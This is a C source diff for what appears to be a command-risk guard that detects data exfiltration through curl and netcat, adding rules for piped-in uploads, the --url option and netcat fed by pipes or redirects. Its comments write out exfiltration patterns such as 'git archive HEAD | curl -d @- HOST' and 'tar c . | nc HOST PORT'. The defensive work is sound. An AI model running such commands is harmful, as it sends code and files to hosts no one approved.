@@ -561,8 +561,7 @@ curl_sent(struct risk_state *st, const char *opt, const struct guard_shell_word 
 	*sends = true;
 	if (!strcmp(opt, "-T") || !strcmp(opt, "--upload-file")) {
 		risk_path(st, "curl upload", v, PATH_READ);
-		if (strcmp(v->text, "-") && strcmp(v->text, "."))
-			*file = v->text;
+		*file = !strcmp(v->text, "-") || !strcmp(v->text, ".") ? "what is piped in" : v->text;
 		return;
 	}
 	if (!strcmp(opt, "--form-string") || !strcmp(opt, "--data-raw"))
@@ -571,6 +570,8 @@ curl_sent(struct risk_state *st, const char *opt, const struct guard_shell_word 
 	const char *at = strchr(v->text, '@');
 	if ((!strcmp(opt, "-F") || !strcmp(opt, "--form")) && (!at || (strchr(v->text, '<') && strchr(v->text, '<') < at)))
 		at = strchr(v->text, '<');
+	if (at && !strcmp(at + 1, "-"))
+		*file = "what is piped in"; /* -d @- , --data-binary @-: git archive HEAD | curl -d @- HOST */
 	if (at && at[1] && strcmp(at + 1, "-")) {
 		struct guard_shell_word w = { (char *)at + 1, NULL, at[1] == '~' ? GUARD_WORD_TILDE : 0 };
 		char *semi = strchr(w.text, ';');
@@ -663,6 +664,9 @@ rate_curl(struct risk_state *st, const struct risk_cmd *c)
 		}
 	}
 	file_to_foreign(st, n0, file, ops, n);
+	struct guard_shell_word url;
+	if (risk_opt_word(c, NULL, "--url", &url)) /* curl --url HOST -d @F */
+		file_to_foreign(st, n0, file, (const struct guard_shell_word *[]){ &url }, 1);
 	const char *method = risk_opt_value(c, "-X", "--request");
 	if (method && !strcasecmp(method, "DELETE"))
 		risk_rule(st, GUARD_LEVEL_HIGH, GUARD_CLASS_DELETE, "%s sends an HTTP DELETE", n0);
@@ -765,6 +769,14 @@ rate_netcat(struct risk_state *st, const struct risk_cmd *c)
 		/* nc HOST PORT, telnet HOST PORT: the port is the second word */
 		bool port = k > 1 && strspn(ops[1]->text, "0123456789") == strlen(ops[1]->text) && *ops[1]->text;
 		host_port(st, n, ops[0]->text, port ? ops[1]->text : "");
+		/* tar c . | nc HOST PORT, nc HOST PORT < F: what is fed in leaves for a host no one listed */
+		bool fed = c->cmd->pipe_pos > 0;
+		for (size_t i = 0; i < c->cmd->nredirs && !fed; i++)
+			fed = c->cmd->redirs[i].op == GUARD_REDIR_IN || c->cmd->redirs[i].op == GUARD_REDIR_HEREDOC ||
+			      c->cmd->redirs[i].op == GUARD_REDIR_HERESTRING;
+		if (fed && risk_host_foreign(st, ops[0]->text))
+			risk_rule(st, GUARD_LEVEL_HIGH, GUARD_CLASS_READ, "%s sends what is fed in to a host not in allowed_hosts: %s",
+				  n, ops[0]->text);
 	}
 }
 
